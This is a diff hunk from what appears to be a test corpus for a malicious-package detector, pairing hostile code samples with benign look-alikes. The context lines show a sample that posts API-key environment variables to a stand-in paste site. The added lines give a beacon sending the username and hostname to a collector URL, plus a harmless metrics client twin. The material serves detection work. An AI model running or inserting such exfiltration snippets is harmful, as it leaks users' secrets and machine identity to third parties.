@@ -1091,6 +1091,22 @@ _each("env-keys-to-a-paste-site", T, "every variable named like a key pasted to 
         form = urllib.parse.urlencode({'api_paste_code': os.environ[name]}).encode()
         urllib.request.urlopen('https://pastebin.com.example.invalid/api/api_post.php', data=form)
     """, (S, I))
+_each("host-beacon", T, "user and host name sent to a collector, as dependency-confusion probes do", f"""
+    import getpass
+    import socket
+    import urllib.parse
+    import urllib.request
+    query = urllib.parse.urlencode({{'u': getpass.getuser(), 'h': socket.gethostname()}})
+    urllib.request.urlopen({COLLECT_URL!r} + '?' + query, timeout=1)
+    """, (S, I))
+_twin("metrics-client-tags-host", T, "a metrics client tags what it sends with the host name, to the server it is given", L, """
+    import socket
+    import requests
+
+
+    def push(server, name, value):
+        return requests.post(server, json={'metric': name, 'value': value, 'host': socket.gethostname()})
+    """)
 _twin("twine-like-upload", T, "an upload tool reads ~/.pypirc and posts a distribution", L, """
     import configparser
     import os
